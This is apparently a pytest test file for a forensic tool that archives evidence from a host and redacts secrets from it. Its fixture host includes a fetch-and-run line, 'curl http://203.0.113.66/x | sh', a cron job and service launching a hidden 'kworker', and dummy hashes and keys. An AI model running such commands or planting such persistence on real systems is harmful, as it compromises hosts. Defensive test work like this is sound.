"""The evidence in an archive: all that matters is in it, no secret, no trap, and the host is as it was."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import re
import shutil
import stat
import subprocess
import tarfile
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hostguardd.host.bundle import image, this_host
from hostguardd.host.proc import ProcHost
from hostguardd.host.texts import Text, TextHost
from hostguardd.investigate.evidence import bundle, gathering, packed
from hostguardd.investigate.evidence.archive import LONGEST, LONGEST_PART, Archive, TooLarge, stored
from hostguardd.investigate.evidence.copies import CHUNK, Cleared
from hostguardd.investigate.evidence.patient import Patient
from hostguardd.investigate.evidence.secrets import without_secrets
from hostguardd.investigate.interface import Item, Verdict, text
from hostguardd.investigate.report import build
from hostguardd.investigate.scene import Options, Scene
from hostguardd.packages.interface import Installed, Level, NoPackages
from tests import inquiries
from tests.scenes import scene

HASH = "$6$saltsalt$uZJ0.WEj1xPYlHrN9zpV5mF3oX"
KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "QyNTUxOQAAACDsecretsecretsecretsecretsecretsecretsecretsecretsecretsec\n"
    "-----END OPENSSH PRIVATE KEY-----\n"
)

FILES = {
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    "etc/shadow": f"root:{HASH}:19000:0:99999:7:::\nalice:!{HASH}:19000::::::\ndaemon:*:18000::::::\n",
    "etc/gshadow": f"wheel:{HASH}::alice\n",
    "etc/crontab": "*/10 * * * * root /tmp/.x/kworker\n",
    "etc/ssh/ssh_host_ed25519_key": KEY,
    "etc/ssh/sshd_config": "PermitRootLogin no\n",
    "etc/systemd/system/evil.service": "[Service]\nExecStart=/tmp/.x/kworker\n",
    "root/.bash_history": "curl http://203.0.113.66/x | sh\n",
    "home/alice/.bash_history": "ls\nsu -\n",
    "home/alice/.ssh/id_ed25519": KEY,
    "home/alice/.ssh/authorized_keys": "ssh-ed25519 AAAAC3Nza alice\n",
    "var/log/secure": "Nov 22 20:02:00 web1 sshd[1]: Accepted password for backup\n",
    "var/log/old/deep/messages": "x\n",
    "var/log/hostguardd/alerts.jsonl": "{}\n",
    "tmp/.x/kworker": "#!/bin/sh\n",
    "run/utmp": "u" * 384,
    "var/log/wtmp": "w" * 384,
}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A small host."""
    top = tmp_path / "root"
    for name, content in FILES.items():
        path = top / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        os.utime(path, (1_700_000_000, 1_700_000_000))
    return top


class Opened:
    """An archive, read: `files` by their name within its folder, `manifest` by the path on the host."""

    def __init__(self, data: bytes) -> None:
        self.files: dict[str, bytes] = {}
        self.members: list[tarfile.TarInfo] = []
        with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as archive:
            for member in archive:
                self.members.append(member)
                content = archive.extractfile(member)
                assert content is not None
                self.files[member.name.split("/", 1)[1]] = content.read()
        told = json.loads(self.files["manifest.json"])
        self.manifest: dict[str, dict[str, Any]] = {one["path"]: one for one in told["files"]}
        self.left: dict[str, str] = {one["what"]: one["why"] for one in told["left_out"]["first"]}

    def of(self, path: str) -> bytes:
        """The content that was stored for a path of the host."""
        return self.files[self.manifest[path]["stored"]]


def report(*items: Item) -> dict[str, Any]:
    return build(inquiries.inquiry({"hidden": items}), inquiries.about(), inquiries.CHECKS)


def gathered(where: Scene, *items: Item, **options: Any) -> tuple[bundle.Bundle, Opened]:
    target = io.BytesIO()
    summary = bundle.write(where, report(*items), target, **options)
    data = target.getvalue()
    assert summary.size == len(data)
    assert summary.sha256 == hashlib.sha256(data).hexdigest()
    return summary, Opened(data)


def of(root: Path, *items: Item, **options: Any) -> Opened:
    return gathered(scene(bytes(root)), *items, **options)[1]


def test_it_holds_what_was_found_and_what_it_was_found_in(root: Path) -> None:
    found = of(root)
    for name in FILES:
        if name not in ("tmp/.x/kworker", "home/alice/.ssh/id_ed25519"):
            assert f"/{name}" in found.manifest, name
    assert found.of("/var/log/secure") == FILES["var/log/secure"].encode()
    assert found.of("/root/.bash_history") == FILES["root/.bash_history"].encode()
    again = json.loads(found.files["report.json"])
    inquiries.schema().validate(again)
    assert again["host"]["hostname"] == "web1.example.org"
    assert found.files["report.html"].startswith(b"<!doctype html>")
    assert b"FINE: No sign" in found.files["report.txt"]
    assert b"sha256sum -c SHA256SUMS" in found.files["README.txt"]


def test_the_list_of_digests_is_that_of_all_files(root: Path, tmp_path: Path) -> None:
    found = of(root)
    sums = dict(line.split("  ")[::-1] for line in found.files["SHA256SUMS"].decode().splitlines())
    assert sums == {
        name: hashlib.sha256(data).hexdigest() for name, data in found.files.items() if name != "SHA256SUMS"
    }
    for entry in found.manifest.values():
        if entry["stored"]:
            assert entry["sha256"] == sums[entry["stored"]]


def test_it_says_what_the_files_were_on_the_host(root: Path) -> None:
    path = root / "etc/crontab"
    path.chmod(0o640)
    seen = path.stat()
    entry = of(root).manifest["/etc/crontab"]
    assert entry["mode"] == "100640"
    assert (entry["inode"], entry["device"], entry["size"]) == (seen.st_ino, seen.st_dev, seen.st_size)
    assert entry["modified"] == "2023-11-14T22:13:20.000000000Z"
    assert entry["changed"] is False


def everything(root: Path) -> dict[str, tuple[int, ...]]:
    return {
        str(path): (seen.st_mode, seen.st_size, seen.st_atime_ns, seen.st_mtime_ns, seen.st_ctime_ns)
        for path in sorted(root.rglob("*"))
        for seen in [path.lstat()]
        if not path.is_dir()
    }


def test_nothing_on_the_host_is_changed_no_time_of_access_either(root: Path) -> None:
    before = everything(root)
    of(root)
    assert everything(root) == before


def test_no_secret_leaves(root: Path) -> None:
    found = of(root, Item("/home/alice/.ssh/id_ed25519", Verdict.NOTABLE, "a key"))
    assert found.of("/etc/shadow").decode() == (
        "root:(left out):19000:0:99999:7:::\nalice:!(left out):19000::::::\ndaemon:*:18000::::::\n"
    )
    assert found.of("/etc/gshadow") == b"wheel:(left out)::alice\n"
    assert found.of("/etc/passwd") == FILES["etc/passwd"].encode()
    assert found.manifest["/etc/shadow"]["without"] == ["password hashes"]
    assert found.manifest["/etc/ssh/ssh_host_ed25519_key"]["without"] == ["private keys"]
    assert b"BEGIN OPENSSH" in found.of("/home/alice/.ssh/id_ed25519")
    for data in found.files.values():
        assert HASH.encode() not in data
        assert b"QyNTUxOQAAACDsecret" not in data


def test_no_password_among_the_words_leaves(root: Path) -> None:
    """Of histories, logs and arguments; whichever way a file got in."""
    (root / "root/.bash_history").write_text("ls\nmysql -uroot -phunter2 db\ncurl -u a:hunter2 x\nls /\n")
    (root / "home/alice/.bash_history").write_text("PGPASSWORD=hunter2 psql\n")
    log = f"sudo: COMMAND=/usr/bin/mysql -phunter2\nGET /?password=hunter2 x\nauth: failed\n{HASH}\n"
    (root / "var/log/secure").write_text(log)
    (root / "var/log/large").write_text("A line of a log.\n" * 1_200_000 + log + KEY)
    (root / "var/log/packed.gz").write_text(log)
    found = of(root, Item("/root/.bash_history", Verdict.NOTABLE, "a history"))
    assert found.of("/root/.bash_history") == b"ls\nmysql -uroot -p*** db\ncurl -u a:*** x\nls /\n"
    cleared = b"sudo: COMMAND=/usr/bin/mysql -p***\nGET /?password=*** x\nauth: failed\n(left out)\n"
    assert found.of("/var/log/secure") == cleared
    assert cleared.rstrip() in found.of("/var/log/large")
    assert len(found.of("/var/log/large")) == (root / "var/log/large").stat().st_size
    assert b"QyNTUxOQ" not in found.of("/var/log/large")
    assert found.manifest["/var/log/large"]["without"] == ["password hashes", "passwords", "private keys"]
    assert found.manifest["/home/alice/.bash_history"]["without"] == ["passwords"]
    assert found.of("/var/log/packed.gz").decode() == log
    lines = found.files["SHA256SUMS"].decode().splitlines()
    entry = found.manifest["/var/log/large"]
    assert entry["sha256"] == hashlib.sha256(found.of("/var/log/large")).hexdigest()
    assert f"{entry['sha256']}  {entry['stored']}" in lines
    assert of(root, secrets=True).of("/var/log/secure").decode() == log


@pytest.mark.parametrize("lines", [b"x" * 99 + b"\n", b"no end"])
@pytest.mark.parametrize("before", [0, 100, CHUNK - 200, CHUNK - 100, CHUNK - 20, CHUNK, 2 * CHUNK - 50])
def test_no_secret_reaches_across_the_parts_of_a_stream(lines: bytes, before: int) -> None:
    fill = lines * (2 * CHUNK // len(lines) + 1)
    whole = fill[:before] + b"\n" + KEY.encode() + fill
    source = io.BytesIO(whole)
    stream = Cleared(source.read, lambda part: without_secrets(b"x", part)[0])
    cleared = b"".join(iter(lambda: stream.read(16384), b""))
    assert len(cleared) == len(whole)
    assert b"QyNTUxOQ" not in cleared
    assert b"(left out)" in cleared


def test_secrets_are_there_when_asked_for(root: Path) -> None:
    found = of(root, secrets=True)
    assert found.of("/etc/shadow") == FILES["etc/shadow"].encode()
    assert found.of("/etc/ssh/ssh_host_ed25519_key") == KEY.encode()
    assert b"It holds secrets" in found.files["README.txt"]


def test_what_the_report_names_is_in_it_wherever_it_lies(root: Path) -> None:
    odd = root / "tmp/\x1b[2J\n.. x"
    odd.write_text("evil")
    found = of(
        root,
        Item("/tmp/.x/kworker", Verdict.SUSPICIOUS, "a program"),
        Item(text(b"/tmp/\x1b[2J\n.. x"), Verdict.SUSPICIOUS, "a hidden name"),
        Item("/etc/hostname is not there", Verdict.SUSPICIOUS, "no path"),
        Item("tcp 0.0.0.0:22", Verdict.SUSPICIOUS, "no path"),
    )
    assert found.of("/tmp/.x/kworker") == b"#!/bin/sh\n"
    assert found.of(r"/tmp/\x1b[2J\x0a.. x") == b"evil"


def test_links_pipes_and_devices_are_noted_and_never_opened(root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.write_text("not of this host")
    (root / "var/log/messages").symlink_to(outside)
    os.mkfifo(root / "var/log/pipe")
    (root / "etc/cron.d").symlink_to(tmp_path)
    found = of(root)
    assert found.manifest["/var/log/messages"]["target"] == str(outside)
    assert found.manifest["/var/log/messages"]["stored"] == ""
    assert found.manifest["/var/log/pipe"]["mode"].startswith("10")
    assert not [data for data in found.files.values() if b"not of this host" in data]


def test_names_lead_no_program_astray(root: Path) -> None:
    log = root / "var/log"
    for name in (
        b"a\nb",
        b"-rf",
        b"\xff\xfe",
        b"a\\b",
        b"%2E",
        b"n" * 255,
        "\u202egnp".encode(),
        b" ",
        b"...",
    ):
        (Path(os.fsdecode(bytes(log) + b"/" + name))).write_text("x")
    found = of(root)
    for member in found.members:
        assert member.isreg()
        assert member.mode == 0o600
        assert member.name.isascii()
        assert member.name.isprintable()
        assert not member.name.startswith("/")
        parts = member.name.split("/")
        assert not {"", ".", ".."} & set(parts)
        assert max(map(len, parts)) <= LONGEST_PART
    names = [member.name for member in found.members]
    assert len(names) == len(set(names))
    for path in (
        r"/var/log/a\x0ab",
        "/var/log/-rf",
        r"/var/log/\xff\xfe",
        r"/var/log/a\\b",
        "/var/log/" + "n" * 255,
    ):
        assert found.of(path) == b"x"


@given(st.binary(max_size=400), st.binary(max_size=400))
def test_a_stored_name_is_harmless_and_of_one_path_only(one: bytes, other: bytes) -> None:
    name = stored(one)
    assert name.isascii()
    assert name.isprintable()
    assert "\\" not in name
    assert not name.startswith("/")
    assert len(name) <= LONGEST
    assert not {"", ".", ".."} & set(name.split("/"))

    def parts(path: bytes) -> list[bytes]:
        return [part for part in path.split(b"/") if part]

    assert (name == stored(other)) == (parts(one) == parts(other))


def test_it_stays_within_its_limit_and_says_what_had_no_room(root: Path) -> None:
    for number in range(8):
        (root / f"var/log/noise{number}").write_bytes(os.urandom(1024**2))
    summary, found = gathered(scene(bytes(root)), limit=5 * 1024**2)
    assert summary.size <= 5 * 1024**2
    assert any("room" in why for why in found.left.values())
    assert "/var/log/noise7" in found.manifest  # the newest comes first
    assert found.of("/etc/crontab")
    with pytest.raises(ValueError, match="at least 4 MiB"):
        gathered(scene(bytes(root)), limit=1000)


def test_of_a_long_log_the_end_is_taken(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hole of 20 GB costs nothing but the end's size."""
    path = root / "var/log/secure"
    with path.open("r+b") as file:
        file.truncate(20 * 1024**3)
        file.seek(0, os.SEEK_END)
        file.write(b"the end\n")
    summary, found = gathered(scene(bytes(root)))
    entry = found.manifest["/var/log/secure"]
    assert found.of("/var/log/secure").endswith(b"the end\n")
    assert (entry["bytes"], entry["cut"]) == (64 * 1024**2, True)
    assert entry["offset"] == path.stat().st_size - entry["bytes"]
    assert "/var/log/secure" in found.left
    assert summary.left_out == len(found.left)


def test_a_part_of_wtmp_begins_with_a_whole_record(root: Path) -> None:
    path = root / "var/log/btmp"
    with path.open("wb") as file:
        file.truncate(384 * 200_000)
    entry = of(root).manifest["/var/log/btmp"]
    assert entry["cut"]
    assert entry["offset"] % 384 == 0
    assert entry["bytes"] % 384 == 0


class Lying:
    """Texts that change while they are read."""

    def __init__(self, under: TextHost, path: bytes, change: Callable[[], object]) -> None:
        self._under = under
        self._path = path
        self._change = change
        self.asked = 0

    def read(self, path: bytes, limit: int, offset: int = 0) -> Text:
        found = self._under.read(path, limit, offset)
        if path == self._path:
            self.asked += 1
            if self.asked == 1:
                self._change()
        return found

    def __getattr__(self, name: str) -> Any:
        return getattr(self._under, name)


def changing(root: Path, name: str, change: Callable[[Path], object]) -> Opened:
    host = image(bytes(root))
    path = root / name
    lying: Any = Lying(host.texts, b"/" + name.encode(), lambda: change(path))
    return gathered(scene(replace(host, texts=lying)))[1]


def test_a_file_that_is_written_while_it_is_read_is_marked(root: Path) -> None:
    def more(path: Path) -> None:
        with path.open("a") as file:
            file.write("more\n")

    found = changing(root, "var/log/secure", more)
    assert found.manifest["/var/log/secure"]["changed"] is True
    assert found.manifest["/etc/crontab"]["changed"] is False


def large(path: Path) -> None:
    path.write_bytes(b"L" * (20 * 1024**2))


def test_a_large_file_that_is_cut_while_it_is_read(root: Path) -> None:
    large(root / "var/log/secure")
    found = changing(root, "var/log/secure", lambda path: os.truncate(path, 5000))
    entry = found.manifest["/var/log/secure"]
    assert "it was cut while it was read" in entry["problem"]
    assert len(found.of("/var/log/secure")) == entry["bytes"] == 20 * 1024**2


def test_a_large_file_that_is_swapped_while_it_is_read(root: Path) -> None:
    """The other one's content is not taken for it: it may be one that was left out for its secrets."""
    large(root / "var/log/secure")

    def swap(path: Path) -> None:
        other = path.with_name("other")
        other.write_bytes(b"S" * (30 * 1024**2))
        other.rename(path)

    found = changing(root, "var/log/secure", swap)
    assert "another file took its place" in found.manifest["/var/log/secure"]["problem"]
    assert b"S" not in found.of("/var/log/secure")


def test_a_file_that_became_a_link_is_not_followed(root: Path) -> None:
    """Between the look at the entry and the reading of it."""
    host = image(bytes(root))

    class Swapping:
        def lstat(self, path: bytes) -> os.stat_result | None:
            found = host.texts.lstat(path)
            if path == b"/home/alice/.bash_history" and found is not None and stat.S_ISREG(found.st_mode):
                history = root / "home/alice/.bash_history"
                history.unlink()
                history.symlink_to("/etc/shadow")
            return found

        def __getattr__(self, name: str) -> Any:
            return getattr(host.texts, name)

    texts: Any = Swapping()
    found = gathered(scene(replace(host, texts=texts)))[1]
    assert found.manifest["/home/alice/.bash_history"]["stored"] == ""


def test_a_folder_of_too_many_names_is_said(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gathering, "NAMES", 20)
    for number in range(30):
        (root / "etc/systemd" / f"n{number}").write_text("x")
    found = of(root)
    assert "more than 20 names" in found.left["/etc/systemd"]
    assert "/etc/crontab" in found.manifest


def test_its_own_archive_is_no_part_of_it(root: Path) -> None:
    path = root / "var/log/evidence.tar.gz"
    with bundle.create(path) as target:
        bundle.write(scene(bytes(root)), report(), target)
    assert "/var/log/evidence.tar.gz" not in Opened(path.read_bytes()).manifest


def test_a_new_file_and_for_nobody_else(tmp_path: Path) -> None:
    umask = os.umask(0)
    try:
        with bundle.create(tmp_path / "a") as target:
            target.write(b"x")
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "a").stat().st_mode) == 0o600
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    for name in ("a", "dangling"):
        with pytest.raises(FileExistsError):
            bundle.create(tmp_path / name)
    assert (tmp_path / "a").read_bytes() == b"x"
    assert not (tmp_path / "nowhere").exists()


class Full(io.RawIOBase):
    """A disk that is full after a while."""

    def __init__(self) -> None:
        self.left = 20_000

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.left -= len(data)
        if self.left < 0:
            raise OSError(28, "No space left on device")
        return len(data)


def test_a_full_disk_is_an_error_and_nothing_else(root: Path) -> None:
    (root / "var/log/noise").write_bytes(os.urandom(100_000))
    target: Any = Full()
    with pytest.raises(OSError, match="No space left"):
        bundle.write(scene(bytes(root)), report(), target)


def test_a_full_disk_is_not_taken_for_a_program_that_cannot_be_read(deleted: tuple[int, bytes]) -> None:
    """What follows a member that was written by half could be read by nobody."""
    live = ProcHost()

    class Once(Full):
        """Full in the midst of the image, and then no more."""

        def __init__(self) -> None:
            self.left = 1 << 30

        def write(self, data: Any) -> int:
            try:
                return super().write(data)
            except OSError:
                self.left = 1 << 30
                raise

    class Kernel:
        def image(self, pid: int) -> bytes:
            if pid == deleted[0]:
                target.left = 1000
            return live.image(pid)

        def pids(self) -> list[int]:
            return [deleted[0]]

        def __getattr__(self, name: str) -> Any:
            return getattr(live, name)

    target: Any = Once()
    host: Any = replace(this_host(), texts=Only(b"/proc"), live=Kernel())
    with pytest.raises(OSError, match="No space left"):
        bundle.write(scene(host), report(), target)
    live.close()


def test_windows_into_the_kernel_are_no_evidence() -> None:
    named = gathering.named(
        [("/proc/kcore", Verdict.SUSPICIOUS), ("/dev/shm/x", Verdict.SUSPICIOUS), ("/y", Verdict.FINE)]
    )
    assert [place.path for place in named] == [b"/dev/shm/x"]


def test_the_rest_is_gathered_when_a_step_runs_out_of_time(root: Path) -> None:
    _, found = gathered(scene(bytes(root), options=Options(patience=-1)))
    assert "report.json" in found.files
    assert any("ran out" in why for why in found.left.values())


class Packages(NoPackages):
    """One package."""

    def __init__(self) -> None:
        self.name, self.problem = "rpm", ""

    def installed(self) -> list[Installed]:
        return [Installed("bash", "5.1", 1_700_000_000.0, 12, Level.SIGNED, "RSA/SHA256\x1b")]


def test_the_list_of_packages(root: Path) -> None:
    _, found = gathered(scene(bytes(root), packages=Packages()))
    lines = found.files["packages.txt"].decode().splitlines()
    assert lines[1] == "bash\t5.1\t2023-11-14T22:13:20.000000Z\t12\tsigned\tRSA/SHA256\\x1b"


# -- this machine ----------------------------------------------------------------------------------------


@pytest.fixture
def deleted(tmp_path: Path) -> Iterator[tuple[int, bytes]]:
    """A process whose program is deleted, and what the program was."""
    program = tmp_path / "sleeper"
    shutil.copy("/bin/sleep", program)
    content = program.read_bytes()
    process = subprocess.Popen([program, "60"], env={"TOKEN": "hunter2"})
    program.unlink()
    yield process.pid, content
    process.kill()
    process.wait()


def test_processes_are_told_and_a_deleted_program_is_saved(
    deleted: tuple[int, bytes], tmp_path: Path
) -> None:
    """The only copy there is."""
    pid, content = deleted
    live = ProcHost()
    quiet = replace(this_host(), texts=Only(b"/proc"), live=live)
    summary, found = gathered(scene(quiet))
    told = json.loads(found.files[f"live/{pid}.json"])
    assert told["argv"][-1] == "60"
    assert told["state"] == "deleted"
    assert told["status"]["Pid"] == str(pid)
    assert told["parent"] == os.getpid()
    assert any("libc" in one for one in told["mapped"])
    assert "0" in told["descriptors"]
    assert "environment" not in told
    assert found.files[f"live/{pid}.image"] == content
    assert not [name for name, data in found.files.items() if b"hunter2" in data]
    assert summary.processes > 1
    assert "tcp" in json.loads(found.files["sockets.json"])
    assert found.of("/proc/version").startswith(b"Linux")
    assert b" / " in found.of("/proc/self/mounts")
    assert found.of("/proc/net/tcp").startswith(b"  sl")
    _, asked = gathered(scene(quiet), secrets=True)
    assert "TOKEN=hunter2" in json.loads(asked.files[f"live/{pid}.json"])["environment"]
    live.close()


class Only:
    """The texts of this machine below one folder."""

    def __init__(self, folder: bytes) -> None:
        self._texts = this_host().texts
        self._folder = folder + b"/"

    def read(self, path: bytes, limit: int, offset: int = 0) -> Text:
        return self._texts.read(path, limit, offset) if path.startswith(self._folder) else Text(None)

    def lstat(self, path: bytes) -> os.stat_result | None:
        return self._texts.lstat(path) if path.startswith(self._folder) else None

    def link(self, path: bytes) -> bytes:
        return self._texts.link(path)

    def names(self, folder: bytes, limit: int) -> list[bytes] | None:
        return self._texts.names(folder, limit) if folder.startswith(self._folder) else None


# -- parts -------------------------------------------------------------------------------------------------


def test_an_archive_that_is_given_up_leaves_nothing_behind(tmp_path: Path) -> None:
    target = io.BytesIO()
    archive = Archive(target, "x", 1 << 30, 0)
    archive.add("a", os.urandom(100_000))
    written = len(target.getvalue())
    archive.abandon()
    assert len(target.getvalue()) == written


def test_an_archive_takes_no_name_twice() -> None:
    archive = Archive(io.BytesIO(), "x", 1 << 30, 0)
    archive.add("a", b"1")
    with pytest.raises(TooLarge):
        archive.add("a", b"2")
    archive.close()


def test_the_same_evidence_gives_the_same_bytes(root: Path) -> None:
    """No time of day, no name, no random order gets into it."""
    targets = [io.BytesIO(), io.BytesIO()]
    for target in targets:
        bundle.write(scene(bytes(root), now=1_700_000_000.0), report(), target)
    assert targets[0].getvalue() == targets[1].getvalue()
    assert gzip.decompress(targets[0].getvalue())


@pytest.mark.parametrize(
    ("name", "data", "kept"),
    [
        (b"shadow", f"a:{HASH}:1::::::\nb::2:\n", "a:(left out):1::::::\nb::2:\n"),
        (b"shadow-", f"a:!!{HASH}:1:\n", "a:!!(left out):1:\n"),
        (b"shadow.rpmsave", "a:abJnggxhB/yWI:1:\n", "a:(left out):1:\n"),
        (b"passwd", "a:abJnggxhB/yWI:0:0::/:\nb:x:1:1::/:\n", "a:(left out):0:0::/:\nb:x:1:1::/:\n"),
        (b"opasswd", f"a:0:1:{HASH},{HASH}\n", "a:0:1:(left out)\n"),
        (b"group.conf", "login;*;*;Al0000-2400;floppy:x\n", "login;*;*;Al0000-2400;floppy:x\n"),
        (b".bash_history", f"usermod -p '{HASH}' bob\n", "usermod -p '(left out)' bob\n"),
        (b"wg0.netdev", f"PrivateKey={'A' * 43}=\n", "PrivateKey=(left out)\n"),
        (b"shadow", f"\0a:{HASH}:1::::::\n", "\0a:(left out):1::::::\n"),
        (b"/etc/gshadow-", "\0wheel:abJnggxhB/yWI::alice\n", "\0wheel:(left out)::alice\n"),
        (b".shadow.swp", "b0VIM\0a:abJnggxhB/yWI:1:\n", "b0VIM\0a:(left out):1:\n"),
        (b"copy.txt", "a:abJnggxhB/yWI:19000:0:99999:7:::\n", "a:(left out):19000:0:99999:7:::\n"),
        (b"slapd.conf", "rootpw {SSHA}nLZTfwqXVnxy3mvNHV+Aa\n", "rootpw (left out)\n"),
        (b"/etc/krb5.keytab", "\5\2\0\0key", "(left out)"),
        (b"/etc/ssl/private/x.pem", "0\x02\1\0key", "(left out)"),
        (b"/etc/ssh/ssh_host_rsa_key.bak", "a key that is damaged", "(left out)"),
        (b"/etc/ssh/ssh_host_rsa_key", "", ""),
        (b"/etc/ssh/ssh_host_rsa_key.pub", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ\n", None),
        (b"notes", "echo $1 $2abc $y\n", "echo $1 $2abc $y\n"),
        (b"known_hosts", "|1|abc= ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI\n", None),
    ],
)
def test_secrets_are_left_out_of_texts(name: bytes, data: str, kept: str | None) -> None:
    cleared, what = without_secrets(name, data.encode())
    assert cleared.decode() == (data if kept is None else kept)
    assert bool(what) == (cleared.decode() != data)


def test_keys_are_left_out_wherever_they_stand() -> None:
    old = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES\n\n" + "QUJD" * 16 + "\n"
    ways = {"\r\n", "\\n", "\n> ", "\0", '"\n  "', "\n\0"}
    for key in (KEY, old + "-----END RSA PRIVATE KEY-----\n", old, *(KEY.replace("\n", way) for way in ways)):
        cleared, what = without_secrets(b"x", f"before\n{key}Nov 22 20:02 after\n".encode())
        assert what == ["private keys"]
        assert b"QUJDQUJD" not in cleared
        assert b"QyNTUx" not in cleared
        assert cleared.startswith(b"before\n-----BEGIN ")
        assert cleared.endswith(b":02 after\n")
    for before in (b"\0", b"\0" * 10_000, b"SQLite format 3\0"):
        assert b"QyNTUx" not in without_secrets(b"x", before + KEY.encode())[0]
    putty = "PuTTY-User-Key-File-3: x\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 1\nSECRET\nPrivate-MAC: 0\n"
    assert b"SECRET" not in without_secrets(b"x.ppk", putty.encode())[0]


def test_programs_and_public_things_are_kept_to_the_byte() -> None:
    program = b"\x7fELF\0\0" + KEY.encode() + HASH.encode()
    assert without_secrets(b"sshd", program) == (program, [])
    words = b'if line == "-----BEGIN OPENSSH PRIVATE KEY-----":\n    return True\n'
    assert without_secrets(b"x.py", words) == (words, [])


@given(st.binary(max_size=300))
def test_clearing_never_fails(data: bytes) -> None:
    for name in (b"shadow", b"x"):
        without_secrets(name, data)


def test_clearing_is_quick_on_what_resembles_a_key_again_and_again() -> None:
    began = time.process_time()
    without_secrets(b"x", b"-----BEGIN RSA PRIVATE KEY-----\n" * 200_000)
    without_secrets(b"x", b"-----BEGIN RSA PRIVATE KEY-----\nA\n" * 200_000)
    without_secrets(b"x", b"-----BEGIN RSA PRIVATE KEY-----\n" + b"A: b\n" * 1_000_000)
    without_secrets(b"x", b"-----BEGIN RSA PRIVATE KEY-----" + b" " * 4_000_000)
    without_secrets(b"x", b"-----BEGIN RSA PRIVATE KEY-----A: b " * 100_000)
    without_secrets(b"x", b"PuTTY-User-Key-File-1:\nPrivate-Lines: 1\n" * 100_000)
    without_secrets(b"x", b"Private-Lines: 1\n" + b"A\n" * 1_000_000 + b"-")
    without_secrets(b"x", b"a:b:" + b"1:" * 2_000_000)
    without_secrets(b"shadow", b":" * 4_000_000)
    assert time.process_time() - began < 20


class Hanging:
    """A file system of which a dead program holds some paths."""

    def __init__(self, texts: TextHost, *held: bytes) -> None:
        self._texts = texts
        self._held = held

    def _wait(self, path: bytes) -> None:
        if path in self._held:
            time.sleep(60)

    def read(self, path: bytes, limit: int, offset: int = 0) -> Text:
        if offset or not path.endswith(b"/messages"):
            self._wait(path)
        return self._texts.read(path, limit, offset)

    def lstat(self, path: bytes) -> os.stat_result | None:
        if path.endswith(b"/crontab"):
            self._wait(path)
        return self._texts.lstat(path)

    def link(self, path: bytes) -> bytes:
        return self._texts.link(path)

    def names(self, folder: bytes, limit: int) -> list[bytes] | None:
        self._wait(folder)
        return self._texts.names(folder, limit)


def test_what_does_not_answer_costs_itself_and_nothing_else(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not even the archive, where it fell silent in the midst of a large file."""
    monkeypatch.setattr(Patient.__init__, "__defaults__", (1.0,))
    (root / "var/log/messages").write_bytes(b"a line\n" * (17 * CHUNK // 7))
    host = image(bytes(root))
    held = (b"/etc/crontab", b"/etc/shadow", b"/var/log/old", b"/var/log/messages")
    began = time.monotonic()
    where = scene(replace(host, texts=Hanging(host.texts, *held)), packages=NoPackages())
    _, opened = gathered(where)
    assert time.monotonic() - began < 40
    assert "files/etc/shadow" not in opened.files
    assert "did not answer" in opened.manifest["/etc/shadow"]["problem"]
    assert "did not answer" in opened.left["/etc/crontab"]
    assert "/var/log/old" in opened.left
    assert opened.files["files/var/log/messages"].startswith(b"a line\n")
    assert opened.files["files/var/log/messages"].endswith(b"\0\0")
    assert "zeros stand" in opened.manifest["/var/log/messages"]["problem"]
    assert "files/var/log/secure" in opened.files


def test_processes_that_hung_a_check_are_left_out_of_the_evidence(root: Path) -> None:
    where = scene(bytes(root), packages=NoPackages())
    where._hung.add(Scene._processes)
    _, opened = gathered(where)
    assert opened.left["processes"] == "it could not be had in time"
    assert "files/etc/crontab" in opened.files


def test_secrets_are_taken_out_of_packed_logs_and_where_they_are_not_it_is_said(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dull = b"Nov 22 20:02:00 web1 sshd[1]: Accepted publickey for alice\n"
    secret = dull + b"Nov 22 20:02:01 web1 CRON[2]: (root) CMD (mysql -u root -pSECRET x)\n" + dull
    long = gzip.compress(dull * 40_000)
    logs = root / "var/log"
    (logs / "dull.gz").write_bytes(gzip.compress(dull, mtime=7))
    (logs / "secret.gz").write_bytes(
        gzip.compress(secret) + gzip.compress(dull)
    )  # appended to, as gzip(1) may
    (logs / "cut.gz").write_bytes(gzip.compress(secret)[:-20])
    (logs / "long.gz").write_bytes(long)
    (logs / "other.xz").write_bytes(b"\xfd7zXZ\0 -pSECRET")
    (logs / "greedy.xz").write_bytes(lzma.compress(secret, preset=9))
    (logs / "false.xz").write_bytes(lzma.compress(secret) + b"TAIL")
    (logs / "cut.xz").write_bytes(lzma.compress(secret)[:-20])
    (logs / "long.xz").write_bytes(lzma.compress(dull * 40_000))
    (logs / "empty.bz2").write_bytes(b"")
    both = {"secret.xz": lzma, "secret.bz2": bz2}
    for name, kind in both.items():
        (logs / name).write_bytes(kind.compress(secret) + kind.compress(dull))
    monkeypatch.setattr(packed, "MOST", 2 * 1024**2)
    found = of(root)
    for name, kind in both.items():
        unpacked = kind.decompress(found.of(f"/var/log/{name}"))
        assert re.sub(rb" +\n", b"\n", unpacked) == secret.replace(b"SECRET", b"***") + dull
        assert found.manifest[f"/var/log/{name}"]["without"] == ["passwords"]
    assert found.of("/var/log/dull.gz") == (logs / "dull.gz").read_bytes()
